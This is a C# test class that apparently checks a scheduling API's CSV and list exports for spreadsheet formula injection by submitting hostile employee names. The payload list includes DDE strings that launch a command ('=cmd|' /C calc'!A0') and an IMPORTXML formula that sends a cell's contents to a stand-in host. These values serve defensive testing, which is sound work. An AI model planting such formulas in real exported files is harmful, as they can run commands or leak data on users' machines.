using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using Scheduling.Faults.Http;

namespace Scheduling.Faults.Secured;

/// <summary>Names that a spreadsheet would compute. Whatever the API writes for spreadsheets, no cell of it is a formula.</summary>
internal static class SpreadsheetCases
{
    private const string Dangerous = "=+-@\t\r\n";

    private static readonly string[] Names =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"a\")", "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@A1",
        "=1,2", "=\"a\"", "a,=1+1", "a;=1+1", "a\"=1+1", "'=1+1", "\"=1+1\"", "=1+1\"", "a\t=1+1", "a\n=1+1", "a\r=1+1", " =1+1", "=", "+", "-", "@", "=A1&B1", "=1+1,", "\"", "a\"\"b",
    ];

    public static async Task<int> RunAsync(FaultApi api, List<string> breaches)
    {
        int cases = 0;
        for (int first = 0; first < Names.Length; first += 6)
        {
            string team = string.Create(CultureInfo.InvariantCulture, $"csv{first}");
            string[] names = Names[first..Math.Min(first + 6, Names.Length)];
            JsonNode problem = JsonNode.Parse(FaultApi.Sample())!;
            for (int i = 0; i < names.Length; i++)
            {
                problem["employees"]![i]!["name"] = names[i];
            }

            using HttpRequestMessage request = FaultApi.Request(HttpMethod.Post, $"/api/v1/teams?id={team}", problem.ToJsonString());
            using HttpResponseMessage made = await api.Client.SendAsync(request);
            if ((int)made.StatusCode is >= 400 and < 500)
            {
                cases += names.Length * 2;
                continue;
            }

            string edits = string.Join(',', names.Select((_, i) => $$"""{"employee":"o{{i + 1}}","date":"{{FaultApi.Week}}","shiftType":"O"}"""));
            await api.SendAsync(HttpMethod.Patch, $"/api/v1/teams/{team}/weeks/{FaultApi.Week}/roster", $$"""{"edits":[{{edits}}]}""", "\"0\"");
            foreach (string format in new[] { "csv", "list" })
            {
                string text = await api.SendAsync(HttpMethod.Get, $"/api/v1/teams/{team}/weeks/{FaultApi.Week}/export?format={format}");
                List<string> cells = Cells(text.TrimStart('\uFEFF'));
                breaches.AddRange(cells.Where(cell => cell.Length > 0 && Dangerous.Contains(cell[0], StringComparison.Ordinal)).Select(cell => $"{format}: the cell {cell} is a formula"));

                // A spreadsheet's apostrophe is the only thing that may stand between a name and its cell.
                breaches.AddRange(names.Where(name => !cells.Any(cell => cell.Contains(name.Trim(), StringComparison.Ordinal))).Select(name => $"{format}: the name {name} is not there"));
                cases += names.Length;
            }
        }

        return cases;
    }

    /// <summary>Cells by RFC 4180, read without the product's library.</summary>
    private static List<string> Cells(string text)
    {
        List<string> cells = [];
        var cell = new StringBuilder();
        bool quoted = false;
        for (int i = 0; i < text.Length; i++)
        {
            char c = text[i];
            if (quoted && c == '"' && i + 1 < text.Length && text[i + 1] == '"')
            {
                cell.Append('"');
                i++;
            }
            else if (c == '"' && (quoted || cell.Length == 0))
            {
                quoted = !quoted;
            }
            else if (!quoted && c is ',' or '\n')
            {
                cells.Add(cell.ToString().TrimEnd('\r'));
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        cells.Add(cell.ToString());
        return cells;
    }
}
